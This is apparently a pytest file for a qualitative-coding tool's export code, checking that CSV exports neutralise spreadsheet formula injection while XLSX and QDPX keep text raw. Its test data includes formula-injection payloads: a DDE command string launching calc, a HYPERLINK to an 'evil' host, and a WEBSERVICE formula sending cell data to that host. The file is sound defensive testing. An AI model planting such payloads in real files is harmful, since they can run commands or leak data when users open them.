"""CSV exports never hand a spreadsheet a formula: text that starts like one gets a leading apostrophe (OWASP), in
every CSV qcode writes (`qcode export x.csv`, `qcode report ... --csv`, the app's table downloads), while the XLSX
and QDPX exports keep the same text exactly as typed."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pandas as pd
import pytest
from lxml import etree
from typer.testing import CliRunner

from coding.analysis import load_analysis
from coding.cli.main import app
from coding.export.formats import export_bytes
from coding.export.rows import coded_excerpt_rows, rows_frame
from coding.export.tabular import csv_bytes, spreadsheet_safe_text
from coding.project_codebook import require_codebook, save_version
from coding.store import documents as doc_store
from coding.store import open_project

FORMULAS = ["=1+1", '=HYPERLINK("http://example.org","click")', "+1", "-2+3", "@SUM(A1)", "\tcmd", "\r=cmd",
            "＝1+1", "＋1", "－1", "＠SUM(A1)", "  =1+1", "\u3000＝1", "\n=1+1", "\xa0@x"]
HARMLESS = ["plain text", "a=b", "1-2", "e-mail", "", "'already quoted", "x@y.org", "(=)"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_starts_a_formula_gets_an_apostrophe(text):
    assert spreadsheet_safe_text(text) == "'" + text


@pytest.mark.parametrize("value", [*HARMLESS, -3, -0.5, 1200, None])
def test_other_values_are_unchanged(value):
    assert spreadsheet_safe_text(value) == value


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_bytes_guards_every_text_cell_and_column_name_but_not_numbers():
    frame = pd.DataFrame({"text": ["=1+1", "fine"], "=name": ["@x", "-y"], "score": [-1.5, 2.0], "n": [-3, 4]})
    rows = _csv_rows(csv_bytes(frame))
    assert list(rows[0]) == ["text", "'=name", "score", "n"]
    assert [r["text"] for r in rows] == ["'=1+1", "fine"]
    assert [r["'=name"] for r in rows] == ["'@x", "'-y"]
    assert [(r["score"], r["n"]) for r in rows] == [("-1.5", "-3"), ("2.0", "4")]


def _make_hostile(study) -> None:
    """A code name, a coder-visible attribute value and a document title that all look like formulas."""
    _, codebook = require_codebook(study)
    codes = tuple(c.model_copy(update={"name": "=HYPERLINK(\"http://evil\",\"Cost\")"}) if c.id == "COST" else c
                  for c in codebook.codes)
    save_version(study, codebook.model_copy(update={"codes": codes}))
    attributes = doc_store.get_document(study, "R1").attributes
    doc_store.set_attributes(study, "R1", {**attributes, "region": "+cmd|' /C calc'!A0", "role": "@SUM(1)"})


def test_csv_export_guards_code_names_and_attributes_and_xlsx_qdpx_keep_them_raw(study):
    _make_hostile(study)
    rows = _csv_rows(export_bytes(study, "csv"))
    cost = next(r for r in rows if r["code"] == "COST" and r["document"] == "R1")
    assert cost["code_name"] == "'=HYPERLINK(\"http://evil\",\"Cost\")"
    assert (cost["region"], cost["role"]) == ("'+cmd|' /C calc'!A0", "'@SUM(1)")

    book = openpyxl.load_workbook(io.BytesIO(export_bytes(study, "xlsx")))
    sheet = book["Codings"]
    header = [c.value for c in sheet[1]]
    first = {name: cell for name, cell in zip(header, sheet[2])}
    assert first["document"].value == "R1" and first["code"].value == "COST"
    assert (first["code_name"].value, first["code_name"].data_type) == ("=HYPERLINK(\"http://evil\",\"Cost\")", "s")
    assert first["region"].value == "+cmd|' /C calc'!A0" and first["role"].value == "@SUM(1)"

    with zipfile.ZipFile(io.BytesIO(export_bytes(study, "qdpx"))) as archive:
        root = etree.fromstring(archive.read("project.qde"))
    names = [code.get("name") for code in root.iter("{urn:QDA-XML:project:1.0}Code")]
    assert "=HYPERLINK(\"http://evil\",\"Cost\")" in names


def test_coded_text_that_looks_like_a_formula_is_guarded_in_csv(study):
    data = load_analysis(study)
    frame = rows_frame(coded_excerpt_rows(data), data.attribute_names())
    frame.loc[0, "text"] = "=WEBSERVICE(\"http://evil/?\"&A1)"
    frame.loc[1, "text"] = "- a list item said aloud"
    rows = _csv_rows(csv_bytes(frame))
    assert rows[0]["text"] == "'=WEBSERVICE(\"http://evil/?\"&A1)"
    assert rows[1]["text"] == "'- a list item said aloud"
    assert rows[2]["text"] == frame.loc[2, "text"]


def test_report_csv_from_the_command_line_is_guarded(study_db, tmp_path):
    with open_project(study_db) as store:
        _make_hostile(store)
    out = tmp_path / "frequencies.csv"
    result = CliRunner().invoke(app, ["report", "frequencies", "--csv", str(out), "--db", str(study_db)])
    assert result.exit_code == 0, result.output
    cost = next(r for r in _csv_rows(out.read_bytes()) if r["code"].strip() == "COST")  # ids are indented by depth
    assert cost["name"] == "'=HYPERLINK(\"http://evil\",\"Cost\")"
    by_region = tmp_path / "by-region.csv"
    result = CliRunner().invoke(app, ["report", "frequencies", "--by", "region", "--csv", str(by_region),
                                      "--db", str(study_db)])
    assert result.exit_code == 0, result.output
    assert "'+cmd|' /C calc'!A0" in by_region.read_text(encoding="utf-8-sig")

